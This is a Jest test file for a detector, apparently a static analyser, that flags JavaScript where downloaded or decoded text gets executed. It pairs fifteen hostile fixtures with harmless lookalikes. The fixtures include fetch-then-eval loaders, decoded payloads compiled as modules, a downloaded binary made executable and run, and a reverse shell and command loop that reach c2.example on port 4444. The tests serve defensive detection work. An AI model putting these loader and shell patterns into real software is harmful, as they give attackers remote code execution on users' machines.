import { describe, expect, it } from '@jest/globals'
import { flowsOf } from './flows-of.js'

/** Text from elsewhere that becomes code. */
const runs: readonly (readonly [name: string, code: string, flows: readonly string[]])[] = [
  [
    'a download that is evaluated when it is complete',
    `require('https').get('https://paste.example/raw/x', (res) => {
  let text = ''
  res.on('data', (chunk) => { text += chunk })
  res.on('end', () => eval(text))
})`,
    ['download https.get 1 paste.example → evaluation eval 4'],
  ],
  [
    'a promise that ends in eval itself',
    `fetch('https://cdn.example/a.js').then((r) => r.text()).then(eval)`,
    ['download fetch 1 cdn.example → evaluation eval 1'],
  ],
  [
    'what another server says is made a function',
    `const axios = require('axios')
async function main() { const { data } = await axios.get('https://cdn.example/c'); new Function('require', data.cookie)(require) }
main()`,
    ['download axios.get 2 cdn.example → evaluation Function 2'],
  ],
  [
    'text that is decoded and compiled as a module',
    `const crypto = require('crypto')
const d = crypto.createDecipher('aes256', process.env.npm_package_description)
let text = d.update(load(), 'hex', 'utf8')
text += d.final('utf8')
const m = new module.constructor()
m.paths = module.paths
m._compile(text, '')
exports.load = load
function load() { return require('./data') }`,
    ['decoded crypto.createDecipher 2 → evaluation module()._compile 7'],
  ],
  [
    'an encoded program',
    `const text = Buffer.from(require('./words').text, 'base64').toString()
new Function(text)()`,
    ['decoded Buffer.from 1 → evaluation Function 2'],
  ],
  [
    'a text that a timer or a thread is given',
    `const { Worker } = require('worker_threads')
const text = Buffer.from(require('./words').text, 'base64').toString()
setTimeout(text, 10)
new Worker(text, { eval: true })
new Worker('./work.js', { workerData: text })
setTimeout(() => console.log(text), 10)`,
    ['decoded Buffer.from 2 → evaluation setTimeout 3', 'decoded Buffer.from 2 → evaluation worker_threads.Worker 4'],
  ],
  [
    'a download that is imported as an address of its own',
    `const text = await (await fetch('https://cdn.example/x.js')).text()
import('data:text/javascript,' + text)
import('./locales/' + text + '.js')`,
    ['download fetch 1 cdn.example → evaluation import 2'],
  ],
  [
    'a command from a socket',
    `const net = require('net'), { exec } = require('child_process')
const s = net.connect(4444, 'c2.example', () => {})
s.on('data', (d) => exec(d.toString(), (e, out) => s.write(out)))`,
    ['download net.connect 2 c2.example → evaluation child_process.exec 3'],
  ],
  [
    'a shell whose input is a socket',
    `const s = require('net').connect(4444, 'c2.example')
const sh = require('child_process').spawn('/bin/sh', [])
s.pipe(sh.stdin)
sh.stdout.pipe(s)`,
    ['download net.connect 1 c2.example → evaluation child_process.spawn stdin 3'],
  ],
  [
    'a program that is fetched, kept, made executable and started',
    `import https from 'node:https'
import fs from 'node:fs'
import path from 'node:path'
import { execFileSync } from 'node:child_process'
const target = path.join(import.meta.dirname, 'runtime')
function download(url, dest) {
  return new Promise((resolve, reject) => {
    const file = fs.createWriteStream(dest)
    https.get(url, (res) => {
      if (res.statusCode === 302) return download(res.headers.location, dest).then(resolve, reject)
      res.pipe(file)
      file.on('finish', () => file.close(resolve))
    })
  })
}
await download('https://dist.example/runtime.gz', target)
fs.chmodSync(target, 0o755)
execFileSync(target, ['payload.js'], { stdio: 'inherit' })`,
    ['download https.get 9 dist.example → evaluation child_process.execFileSync 18'],
  ],
  [
    'a fetched file that is loaded',
    `const fs = require('fs')
const response = await fetch('https://cdn.example/p.js')
fs.writeFileSync('/tmp/p.js', Buffer.from(await response.arrayBuffer()))
require('/tmp/p.js')`,
    ['download fetch 2 cdn.example → evaluation require 4'],
  ],
  [
    'a library that is written out of the code and run by another program',
    `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process')
const to = path.join(os.tmpdir(), 'a.dll')
fs.writeFileSync(to, Buffer.from(require('./blob'), 'base64'))
cp.exec('start ' + to)`,
    ['decoded Buffer.from 3 → evaluation child_process.exec 4'],
  ],
  [
    'characters that a list holds, though a loop counts besides',
    `let c = 0, text = ''
c++
for (c of require('./codes')) text += String.fromCharCode(c ^ 7)
eval(text)`,
    ['decoded String.fromCharCode 3 → evaluation eval 4'],
  ],
  [
    'an archive that is unpacked by a program',
    `const fs = require('fs'), path = require('path'), cp = require('child_process')
async function install(dir) {
  const zip = path.join(dir, 'bun.zip')
  const res = await fetch('https://dist.example/bun.zip')
  fs.writeFileSync(zip, Buffer.from(await res.arrayBuffer()))
  cp.execSync(\`unzip -o "\${zip}" -d "\${dir}"\`)
  const bin = path.join(dir, 'bun')
  cp.spawn(bin, ['run', 'payload.js'], { detached: true })
}
install('/tmp/x')`,
    ['download fetch 4 dist.example → evaluation child_process.spawn 8'],
  ],
  [
    'a script element whose address is decoded',
    `const s = document.createElement('script')
s.src = atob(window.config)
document.head.appendChild(s)`,
    ['decoded atob 2 → evaluation script.src 2'],
  ],
]

/** The same means to other ends. */
const harmless: readonly (readonly [name: string, code: string])[] = [
  [
    'a template that is compiled',
    `const fs = require('fs')
exports.compile = (file) => new Function('data', 'return ' + JSON.stringify(fs.readFileSync(file, 'utf8')))`,
  ],
  [
    'a newer version that is looked up and shown',
    `const latest = await (await fetch('https://registry.example/x')).json()
if (latest.version !== '1.0.0') console.log('npm i x@' + latest.version)`,
  ],
  [
    'a version from the registry in a known command',
    `const { execSync } = require('child_process')
const { tag } = await (await fetch('https://registry.example/x')).json()
execSync(\`npm install x@\${tag}\`)`,
  ],
  [
    'a download that is only kept',
    `const fs = require('fs')
const res = await fetch('https://data.example/mime.json')
fs.writeFileSync('db.json', await res.text())
module.exports = require('./db.json')`,
  ],
  [
    'an archive that is unpacked and not run',
    `const fs = require('fs'), cp = require('child_process')
const res = await fetch('https://data.example/t.tgz')
fs.writeFileSync('t.tgz', Buffer.from(await res.arrayBuffer()))
cp.execSync('tar -xzf t.tgz -C out')
cp.execSync('npm install', { cwd: 'out' })`,
  ],
  [
    'a picture that is decoded',
    `const bytes = Uint8Array.from(atob(require('./png')), (c) => c.charCodeAt(0))
WebAssembly.compile(bytes)`,
  ],
  [
    'code of its own, with a request elsewhere',
    `exports.run = (code) => eval(code)
exports.ping = () => fetch('https://a.example').then((r) => r.json()).then((j) => console.log(j))`,
  ],
  [
    'a program of the system whose output is decoded',
    `const { execFileSync } = require('child_process')
exports.get = () => Buffer.from(execFileSync('security', ['x']).toString(), 'base64').toString()`,
  ],
  [
    'a function whose names are letters that a loop counts',
    `let code = '(source) => {'
for (let i = 0; i < 0x30; i++) {
  const v = String.fromCharCode((i & 0xf) + 97) + String.fromCharCode((i >> 4) + 97)
  code += 'let ' + v + ' = source[position++];'
}
exports.read = eval(code + '}')`,
  ],
  [
    'a request that is ended after a while',
    `const req = require('https').get('https://a.example/')
setTimeout(req.destroy.bind(req), 5000)
setTimeout(req.abort, 9000)`,
  ],
  [
    'a page that is opened',
    `const open = require('open')
fetch('https://a.example/login').then((r) => r.json()).then(({ url }) => open(url))`,
  ],
]

describe('flows of foreign text', () => {
  it.each(runs)('sees %s', (_, code, flows) => {
    expect([...flowsOf(code)].sort()).toEqual([...flows].sort())
  })

  it.each(harmless)('is silent about %s', (_, code) => {
    expect(flowsOf(code)).toEqual([])
  })
})
